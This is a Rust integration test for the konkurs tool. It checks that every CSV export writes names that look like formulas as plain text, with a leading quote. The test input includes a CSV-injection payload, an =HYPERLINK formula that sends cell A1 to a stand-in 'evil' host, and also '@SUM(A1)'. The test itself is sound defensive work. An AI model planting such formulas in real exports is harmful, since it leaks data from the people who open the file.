//! No CSV that konkurs writes carries a formula: a name or text that a
//! spreadsheet would run (`=HYPERLINK(...)`, `+`, `-`, `@`) is written as
//! text with a `'` in front; numbers, negative ones too, stay numbers.

mod common;

use common::*;
use konkurs::service::{Actor, ImportKind, Service};

#[test]
fn a_name_typed_as_a_formula_is_plain_text_in_every_csv() {
    let db = tempfile::tempdir().unwrap();
    contest(db.path());
    {
        let service = Service::open(db.path()).unwrap();
        let evil = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
        service
            .import_records(
                &Actor::local_coordinator(),
                ImportKind::Participants,
                vec![
                    participant("P009", evil, "city"),
                    participant("P010", "@SUM(A1)", "city"),
                ],
                "test",
                false,
            )
            .unwrap();
    }
    for args in [
        &["list", "participants", "--format", "csv"][..],
        &["export", "register", "--format", "csv", "--out", "-"],
        &[
            "--lang", "ru", "export", "register", "--format", "csv", "--out", "-",
        ],
    ] {
        let out = konkurs(db.path(), args);
        assert!(out.status.success(), "{args:?}: {out:?}");
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.contains("'=HYPERLINK("), "{args:?}:\n{text}");
        assert!(text.contains("'@SUM(A1)"), "{args:?}:\n{text}");
        for line in text.lines() {
            for cell in line.split([',', ';']) {
                let cell = cell.trim_matches('"');
                assert!(
                    !cell.starts_with('=') && !cell.starts_with('@'),
                    "{args:?}: a cell a spreadsheet would run: {cell}"
                );
            }
        }
    }
}
